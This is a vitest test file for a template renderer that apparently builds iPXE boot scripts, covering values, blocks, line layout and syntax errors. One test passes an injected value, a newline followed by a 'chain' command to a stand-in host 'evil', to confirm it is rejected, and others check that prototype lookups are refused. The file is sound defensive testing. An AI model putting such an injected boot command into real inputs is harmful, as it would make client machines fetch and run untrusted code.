// renderTemplate: values, safety, blocks, layout, syntax errors.

import { describe, expect, it } from "vitest";
import { TemplateError, compileTemplate, renderTemplate } from "../src/index.js";

describe("renderTemplate values", () => {
  it("inserts names, dotted paths, numbers and booleans", () => {
    expect(renderTemplate("set hostname {{host.name}} {{n}} {{ok}}", { host: { name: "node-7" }, n: 7, ok: false }))
      .toBe("set hostname node-7 7 false");
  });

  it("keeps text without tags and lone braces as they are", () => {
    expect(renderTemplate("#!ipxe\nchain ${next-server} { } {x}", {})).toBe("#!ipxe\nchain ${next-server} { } {x}");
  });

  it("refuses a missing variable, naming it and its line", () => {
    expect(() => renderTemplate("a\nb {{ kernel }}", {})).toThrow(/line 2: \{\{kernel\}\} is not set/);
    expect(() => renderTemplate("{{a.b}}", { a: {} })).toThrow(TemplateError);
    expect(() => renderTemplate("{{a}}", { a: null })).toThrow(/not set/);
  });

  it("refuses objects and lists as values", () => {
    expect(() => renderTemplate("{{a}}", { a: { b: 1 } })).toThrow(/not a plain value/);
    expect(() => renderTemplate("{{a}}", { a: [1] })).toThrow(/not a plain value/);
  });

  it("refuses a value with a newline or another control character (no injected lines)", () => {
    expect(() => renderTemplate("set hostname {{h}}", { h: "x\nchain http://evil/" })).toThrow(/control character/);
    expect(() => renderTemplate("{{h}}", { h: "a\rb" })).toThrow(/control character/);
    expect(() => renderTemplate("{{h}}", { h: "a\u0000b" })).toThrow(/control character/);
    expect(renderTemplate("{{h}}", { h: "a\tb" })).toBe("a\tb");
  });

  it("inserts a value as it is with triple braces", () => {
    expect(renderTemplate("{{{extra}}}", { extra: "line 1\nline 2" })).toBe("line 1\nline 2");
  });

  it("reaches own properties only (no prototype)", () => {
    expect(() => renderTemplate("{{constructor}}", {})).toThrow(/not set/);
    expect(() => renderTemplate("{{a.__proto__}}", { a: {} })).toThrow(/not set/);
    expect(() => renderTemplate("{{s.length}}", { s: "abc" })).toThrow(/not set/);
  });
});

describe("renderTemplate blocks", () => {
  it("if / else / unless", () => {
    const t = compileTemplate("{{#if mac}}mac {{mac}}{{else}}no mac{{/if}}|{{#unless mac}}none{{/unless}}");
    expect(t.render({ mac: "aa:bb" })).toBe("mac aa:bb|");
    expect(t.render({})).toBe("no mac|none");
    expect(t.render({ mac: "" })).toBe("no mac|none");
  });

  it("truthiness: 0, false, empty string, null and an empty list are false", () => {
    for (const v of [0, false, "", null, []]) expect(renderTemplate("{{#if v}}y{{else}}n{{/if}}", { v })).toBe("n");
    for (const v of [1, true, "0", [0], {}]) expect(renderTemplate("{{#if v}}y{{else}}n{{/if}}", { v })).toBe("y");
  });

  it("each over plain values and objects, with @index and outer names", () => {
    expect(renderTemplate("{{#each xs}}{{@index}}={{this}};{{/each}}", { xs: ["a", "b"] })).toBe("0=a;1=b;");
    expect(renderTemplate("{{#each es}}{{name}}@{{host}} {{/each}}", { host: "h", es: [{ name: "x" }, { name: "y", host: "z" }] }))
      .toBe("x@h y@z ");
    expect(renderTemplate("{{#each es}}{{this.name}}{{/each}}", { es: [{ name: "q" }] })).toBe("q");
    expect(renderTemplate("[{{#each missing}}x{{/each}}]", {})).toBe("[]");
    expect(() => renderTemplate("{{#each s}}{{/each}}", { s: "abc" })).toThrow(/not a list/);
  });

  it("nests blocks", () => {
    const t = "{{#each hosts}}{{#if up}}{{name}} {{/if}}{{/each}}";
    expect(renderTemplate(t, { hosts: [{ name: "a", up: true }, { name: "b", up: false }, { name: "c", up: 1 }] })).toBe("a c ");
  });

  it("a block tag alone on its line takes the line with it", () => {
    const text = [
      "#!ipxe",
      "{{! per-client script }}",
      "{{#if debug}}",
      "  set debug 1",
      "{{/if}}",
      "{{#each disks}}",
      "  echo {{this}}",
      "{{/each}}",
      "boot",
      "",
    ].join("\n");
    expect(renderTemplate(text, { debug: true, disks: ["sda", "sdb"] })).toBe("#!ipxe\n  set debug 1\n  echo sda\n  echo sdb\nboot\n");
    expect(renderTemplate(text, { debug: false })).toBe("#!ipxe\nboot\n");
    expect(renderTemplate("a {{#if x}}b{{/if}} c\r\n{{#if x}}\r\nd\r\n{{/if}}\r\n", { x: true })).toBe("a b c\r\nd\r\n");
  });
});

describe("renderTemplate syntax errors", () => {
  const table: Array<[string, RegExp]> = [
    ["{{#if a}}x", /line 1: \{\{#if\}\} is never closed/],
    ["{{#if a}}\n{{/each}}", /line 2: \{\{\/each\}\} does not close \{\{#if\}\} of line 1/],
    ["{{/if}}", /does not close any block/],
    ["{{else}}", /outside/],
    ["{{#if a}}{{else}}{{else}}{{/if}}", /outside/],
    ["{{#with a}}{{/with}}", /unknown block/],
    ["{{a b}}", /not a variable name/],
    ["{{a..b}}", /not a variable name/],
    ["{{#if}}{{/if}}", /not a variable name/],
  ];
  for (const [text, err] of table) {
    it(JSON.stringify(text), () => {
      expect(() => compileTemplate(text)).toThrow(TemplateError);
      expect(() => compileTemplate(text)).toThrow(err);
    });
  }
});
